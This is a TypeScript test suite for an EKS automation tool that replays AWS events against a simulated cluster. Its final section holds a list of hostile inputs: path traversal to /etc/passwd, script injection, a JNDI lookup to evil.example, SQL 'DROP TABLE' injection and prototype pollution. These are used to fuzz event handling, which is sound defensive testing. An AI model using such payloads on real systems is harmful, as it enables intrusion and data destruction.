import { existsSync, readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import type { EventEnvelope } from "../../local/events/envelope.ts";
import type { DeadLetter } from "../../local/lambda/async-invocations.ts";
import { type Rig, startRig } from "../builders/platform.ts";

/**
 * The events that AWS delivers, from the set of cases beside the project: each leads to the right outcome, also twice,
 * late, out of order, with fields missing and with hostile content. The examples are read where they are, and ids of
 * machines and groups in them are those of the simulated cluster.
 */
const FILE = new URL("../../../shared/cases/event-examples.json", import.meta.url);

interface Example {
  readonly title: string;
  readonly event: Omit<EventEnvelope, "version">;
}
const examples: readonly Example[] = existsSync(FILE)
  ? (JSON.parse(readFileSync(FILE, "utf8")) as Example[])
  : [];
if (examples.length === 0)
  console.warn(`SKIPPED: the events of ${FILE.pathname} are not there, so nothing was tried with them`);

const NAME = "prod-1";
const ARN = `arn:aws:eks:eu-west-1:111122223333:cluster/${NAME}`;
const HOME = { account: "111122223333", region: "eu-west-1" };
const HOUR = 3_600_000;

const CLUSTER = {
  apiVersion: "eksctl.io/v1alpha5",
  kind: "ClusterConfig",
  metadata: { name: NAME, region: HOME.region, version: "1.35" },
  accessConfig: { authenticationMode: "API_AND_CONFIG_MAP" },
  vpc: { clusterEndpoints: { privateAccess: false, publicAccess: true } },
  addons: [{ name: "vpc-cni" }, { name: "coredns" }, { name: "kube-proxy" }],
  managedNodeGroups: [
    {
      name: "blue",
      instanceTypes: ["m6i.large"],
      spot: true,
      minSize: 2,
      maxSize: 4,
      desiredCapacity: 3,
      labels: { team: "b" },
    },
  ],
};
/** Automation that would act: what does not act must have a reason of its own. */
const POLICY = {
  apiVersion: "slipway.dev/v1",
  kind: "AutomationPolicy",
  metadata: { name: NAME },
  drift: { mode: "report" },
  nodes: { mode: "remediate", spot: "drain", maxConcurrent: 3, falseSignal: 450, coolDownSeconds: 0 },
};

/** What Slipway itself told on its bus: source and kind. */
interface Told {
  readonly source: string;
  readonly type: string;
  readonly detail: Readonly<Record<string, unknown>>;
}

class Scene {
  readonly rig: Rig;
  readonly told: Told[] = [];
  readonly dead: DeadLetter[] = [];
  readonly logged: string[];

  constructor(rig: Rig, logged: string[]) {
    this.rig = rig;
    this.logged = logged;
    rig.platform.events.onEvent((event) => {
      if (event.source.startsWith("slipway."))
        this.told.push({ source: event.source, type: event["detail-type"], detail: event.detail });
    });
    rig.platform.lambda.onDeadLetter((letter) => this.dead.push(letter));
  }

  static async begin(): Promise<Scene> {
    const logged: string[] = [];
    const rig = await startRig({ log: ({ level, message }) => void logged.push(`${level} ${message}`) });
    rig.clusterFile = `${stringify(CLUSTER)}---\n${stringify(POLICY)}`;
    await rig.provision({ workloads: false });
    const scene = new Scene(rig, logged);
    scene.object("Namespace", undefined, "jobs", {});
    // A pod with a controller, as the example names it; nothing else is on Fargate here.
    scene.object("Pod", "jobs", "job-7d9c-abcde", {
      containers: [{ name: "main", image: "registry.example/job:1" }],
      nodeSelector: { nowhere: "true" },
    });
    await scene.pass(HOUR);
    scene.told.length = 0;
    return scene;
  }

  object(kind: string, namespace: string | undefined, name: string, spec: object): void {
    this.rig.platform.kubernetes.apply(ARN, {
      apiVersion: "v1",
      kind,
      metadata: { name, ...(namespace ? { namespace } : {}) },
      spec: spec as Record<string, unknown>,
    });
  }

  pass(ms: number): Promise<void> {
    const { clock } = this.rig.platform.kernel;
    return clock.until(clock.sleep(ms));
  }

  nodes() {
    return this.rig.platform.kubernetes.list(ARN, "Node");
  }

  /** Names of nodes that take no pods. */
  cordoned(): string[] {
    return this.nodes().flatMap((node) => (node.spec?.unschedulable === true ? [node.metadata.name] : []));
  }

  instance(): string {
    const [node] = this.nodes().filter((each) => each.spec?.unschedulable !== true);
    return (
      String(node?.spec?.providerID ?? "")
        .split("/")
        .at(-1) ?? ""
    );
  }

  async autoScalingGroup(): Promise<string> {
    const { endpoint, kernel } = this.rig.platform;
    const { nodegroup } = (await kernel.clock.until(
      Promise.resolve(
        endpoint.call(
          "eks",
          "DescribeNodegroup",
          { clusterName: NAME, nodegroupName: await this.group() },
          this.alice(),
        ),
      ),
    )) as { nodegroup?: { resources?: { autoScalingGroups?: { name?: string }[] } } };
    return nodegroup?.resources?.autoScalingGroups?.[0]?.name ?? "";
  }

  async group(): Promise<string> {
    const { endpoint, kernel } = this.rig.platform;
    const { nodegroups = [] } = (await kernel.clock.until(
      Promise.resolve(endpoint.call("eks", "ListNodegroups", { clusterName: NAME }, this.alice())),
    )) as { nodegroups?: string[] };
    return nodegroups[0] ?? "";
  }

  alice() {
    return {
      ...HOME,
      principal: {
        type: "AssumedRole" as const,
        arn: "arn:aws:sts::111122223333:assumed-role/PlatformAdmin/alice",
        roleArn: "arn:aws:iam::111122223333:role/PlatformAdmin",
        account: HOME.account,
        accessKeyId: "ASIAEXAMPLEKEY000001",
      },
    };
  }

  /** A call that somebody makes, which CloudTrail does not tell of: the example is to do that. */
  async silently(operation: string, input: object): Promise<void> {
    const { faults, endpoint, kernel } = this.rig.platform;
    faults.inject({ name: "CloudTrailEventMissing" });
    await kernel.clock.until(Promise.resolve(endpoint.call("eks", operation, input, this.alice())));
  }

  /** Lets time pass until an hour of the clock has just begun. */
  nextHour(): Promise<void> {
    return this.pass(HOUR - (this.rig.platform.kernel.clock.now() % HOUR) + 1_000);
  }

  async put(event: Example["event"], time = this.rig.platform.kernel.clock.now()): Promise<void> {
    const { endpoint, kernel } = this.rig.platform;
    const { principal } = this.alice();
    const reply = (await kernel.clock.until(
      Promise.resolve(
        endpoint.call(
          "eventbridge",
          "PutEvents",
          {
            Entries: [
              {
                Source: event.source,
                DetailType: event["detail-type"],
                Detail: JSON.stringify(event.detail),
                Resources: [...event.resources],
                Time: new Date(time),
              },
            ],
          },
          { ...HOME, principal: { ...principal, type: "IAMUser" } },
        ),
      ),
    )) as { FailedEntryCount?: number };
    expect(reply.FailedEntryCount).toBe(0);
    await this.pass(1);
  }

  /** The example with the ids of this cluster in it. */
  async example(title: RegExp): Promise<Example["event"]> {
    const found = examples.find((example) => title.test(example.title));
    if (!found) throw new Error(`no example ${title}`);
    const text = JSON.stringify(found.event)
      .replaceAll("i-0abc1234def567890", this.instance())
      .replaceAll("eks-blue-22cc1a2b-7777-4f5e-a1d2-000000000004", await this.autoScalingGroup())
      .replaceAll('"blue"', JSON.stringify(await this.group()))
      .replaceAll("eks-automation-sfn", "slipway-local-workflow-upgrade-cluster");
    return JSON.parse(text) as Example["event"];
  }

  /** What was told since it was asked last, by its kind, each kind with how often. */
  since(): Record<string, number> {
    const counts: Record<string, number> = {};
    for (const { source, type } of this.told.splice(0))
      if (source !== "slipway.operation") counts[type] = (counts[type] ?? 0) + 1;
    return counts;
  }

  async operations(): Promise<string[]> {
    const answer = await this.rig.api("GET", "/v1/operations?limit=100");
    const { items } = (await answer.json()) as { items: { type: string; status: string }[] };
    return items.map(({ type, status }) => `${type} ${status}`);
  }
}

/** What each event leads to. `cause` makes in the world what the event tells of, where the real state decides. */
interface Expectation {
  readonly title: RegExp;
  readonly told: Record<string, number>;
  readonly cause?: (scene: Scene) => Promise<void>;
  readonly check?: (scene: Scene) => Promise<void>;
}

const NOTHING: Record<string, number> = {};

const EXPECTED: readonly Expectation[] = [
  { title: /automation itself/, told: NOTHING },
  { title: /^Failed call/, told: NOTHING },
  { title: /made by EKS itself/, told: NOTHING },
  { title: /^CloudWatch composite/, told: NOTHING },
  { title: /^Step Functions/, told: NOTHING },
  { title: /^ASG lifecycle/, told: NOTHING },
  { title: /^EKS add-on event/, told: NOTHING },
  { title: /^EC2 state change/, told: NOTHING },
  { title: /^CloudWatch metric/, told: { "Alarm Raised": 1 } },
  { title: /^AWS Health/, told: { "End Of Support Announced": 1 } },
  { title: /^Spot rebalance/, told: { "Rebalance Recommended": 1 } },
  // Told once an hour for a group and a reason.
  { title: /^ASG launch/, cause: (scene) => scene.nextHour(), told: { "Launch Failed": 1 } },
  { title: /^EKS Fargate/, told: { "Fargate Pod Termination Scheduled": 1 } },
  {
    title: /^UpdateClusterConfig/,
    cause: (scene) =>
      scene.silently("UpdateClusterConfig", {
        name: NAME,
        resourcesVpcConfig: { endpointPublicAccess: true, endpointPrivateAccess: true },
      }),
    told: { "Drift Detected": 1 },
    check: async (scene) => {
      const { stdout } = await scene.rig.slipway("drift", NAME);
      expect(stdout).toContain("PlatformAdmin/alice");
      expect(stdout).toMatch(/privateAccess/);
    },
  },
  {
    title: /^UpdateNodegroupConfig/,
    cause: async (scene) =>
      scene.silently("UpdateNodegroupConfig", {
        clusterName: NAME,
        nodegroupName: await scene.group(),
        scalingConfig: { minSize: 1, maxSize: 20, desiredSize: 3 },
      }),
    told: { "Drift Detected": 2 },
    check: async (scene) => {
      expect((await scene.rig.slipway("drift", NAME)).stdout).toContain("managedNodeGroups[blue]");
    },
  },
  {
    title: /^DeleteAddon/,
    cause: (scene) =>
      scene.silently("DeleteAddon", { clusterName: NAME, addonName: "vpc-cni", preserve: true }),
    told: { "Drift Detected": 1 },
    check: async (scene) => {
      expect((await scene.rig.slipway("drift", NAME)).stdout).toContain("vpc-cni");
    },
  },
];

const SPOT = /^Spot interruption/;

describe.skipIf(examples.length === 0)("each of the events of AWS", () => {
  let scene: Scene;
  beforeAll(async () => {
    scene = await Scene.begin();
  }, 120_000);
  afterAll(() => scene?.rig.close());

  it("has an expectation here", () => {
    const titles = [...EXPECTED.map(({ title }) => title), SPOT];
    for (const { title } of examples)
      expect(
        titles.filter((pattern) => pattern.test(title)),
        title,
      ).toHaveLength(1);
    expect(titles).toHaveLength(examples.length);
  });

  it.each(EXPECTED)("$title, also twice and late: $told", async ({ title, told, cause, check }) => {
    await cause?.(scene);
    const before = await scene.operations();
    const event = await scene.example(title);
    await scene.put(event);
    await scene.put(event);
    await scene.pass(600_000);
    // Late: the same event once more, with its old time, forty minutes after it happened.
    await scene.put(event, scene.rig.platform.kernel.clock.now() - 2_400_000);
    await scene.pass(600_000);
    expect(scene.since()).toEqual(told);
    await check?.(scene);
    // Whatever they say: no healthy node is touched, and nothing is begun under the mode report.
    expect(scene.cordoned()).toEqual([]);
    expect(await scene.operations()).toEqual(before);
    expect(scene.dead).toEqual([]);
  });

  it("Spot interruption: its node takes no pods and drains within seconds, once", async () => {
    const event = await scene.example(SPOT);
    const taken = scene.instance();
    await scene.put(event);
    await scene.put(event);
    await scene.pass(5_000);
    const cordoned = scene.cordoned();
    expect(cordoned).toHaveLength(1);
    const node = scene.nodes().find(({ metadata }) => metadata.name === cordoned[0]);
    expect(String(node?.spec?.providerID)).toContain(taken);
    await scene.pass(600_000);
    expect(scene.since()["Spot Interruption"]).toBe(1);
    expect(scene.dead).toEqual([]);
  });
});

/** Every path to a value inside. */
function paths(value: unknown, at: readonly string[] = []): string[][] {
  if (typeof value !== "object" || value === null) return [[...at]];
  const inside = Object.entries(value).flatMap(([key, member]) => paths(member, [...at, key]));
  return at.length > 0 ? [[...at], ...inside] : inside;
}

/** A copy with another value at a path, or without that member. */
function changed(value: unknown, path: readonly string[], to: unknown): unknown {
  const [first, ...rest] = path;
  if (first === undefined) return to;
  if (Array.isArray(value))
    return value.map((item, i) => (String(i) === first ? changed(item, rest, to) : item));
  const copy = { ...(value as Record<string, unknown>) };
  if (rest.length === 0 && to === undefined) delete copy[first];
  else copy[first] = changed(copy[first], rest, to);
  return copy;
}

describe.skipIf(examples.length === 0)("whatever the events hold", () => {
  let scene: Scene;
  beforeAll(async () => {
    scene = await Scene.begin();
  }, 120_000);
  afterAll(() => scene?.rig.close());

  /** Those that name a node to be drained are the one thing that may be done to a healthy one. */
  const harmless = examples.filter(({ title }) => !SPOT.test(title));

  async function unharmed(): Promise<void> {
    await scene.pass(HOUR);
    expect(scene.cordoned()).toEqual([]);
    expect(scene.nodes()).toHaveLength(3);
    expect(await scene.operations()).toEqual(["provision-cluster Succeeded"]);
    expect(scene.dead.map(({ functionArn, outcome }) => `${functionArn} ${outcome.payload}`)).toEqual([]);
    expect((await scene.rig.slipway("describe", "cluster", NAME)).code).toBe(0);
  }

  it("in any order: nothing is told twice", async () => {
    const events = await Promise.all(
      harmless.map(({ title }) => scene.example(new RegExp(`^${escaped(title)}$`))),
    );
    for (const order of [events.toReversed(), [...events.slice(7), ...events.slice(0, 7)]])
      for (const event of order) await scene.put(event);
    await unharmed();
    const told = scene.since();
    for (const [type, times] of Object.entries(told)) expect([type, times]).toEqual([type, 1]);
    expect(Object.keys(told)).not.toContain("Drift Detected");
  }, 60_000);

  it("with any member missing: nothing fails, nothing is touched", async () => {
    for (const { title } of harmless) {
      const event = await scene.example(new RegExp(`^${escaped(title)}$`));
      for (const path of paths(event.detail))
        await scene.put({ ...event, detail: without(event.detail, path) });
      await scene.put({ ...event, detail: {} });
      await scene.put({ ...event, resources: [] });
    }
    await unharmed();
    // They did arrive: what can never be handled is logged, and acknowledged.
    expect(scene.logged).toContain("ERROR event of an unknown shape");
  }, 120_000);

  const HOSTILE: readonly unknown[] = [
    null,
    42,
    -1e308,
    true,
    [],
    {},
    [["x"]],
    "",
    "x".repeat(100_000),
    "../../../etc/passwd",
    "<script>alert(1)</script><!channel>",
    "${jndi:ldap://evil.example/x}",
    "{% $states.input %}",
    "'; DROP TABLE clusters; --",
    "\u0000\u202E\uD800",
    JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'),
  ];

  it("with hostile content: nothing fails, nothing is touched, nothing is polluted", async () => {
    for (const [index, { title }] of harmless.entries()) {
      const event = await scene.example(new RegExp(`^${escaped(title)}$`));
      for (const [i, path] of paths(event.detail).entries()) {
        const value = HOSTILE[(i + index) % HOSTILE.length];
        await scene.put({
          ...event,
          detail: changed(event.detail, path, value) as Example["event"]["detail"],
        });
      }
      for (const value of HOSTILE.slice(-9))
        await scene.put({ ...event, resources: [typeof value === "string" ? value : "arn:aws:eks:::"] });
    }
    await unharmed();
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  }, 120_000);
});

const escaped = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
const without = (detail: Example["event"]["detail"], path: readonly string[]): Example["event"]["detail"] =>
  changed(detail, path, undefined) as Example["event"]["detail"];
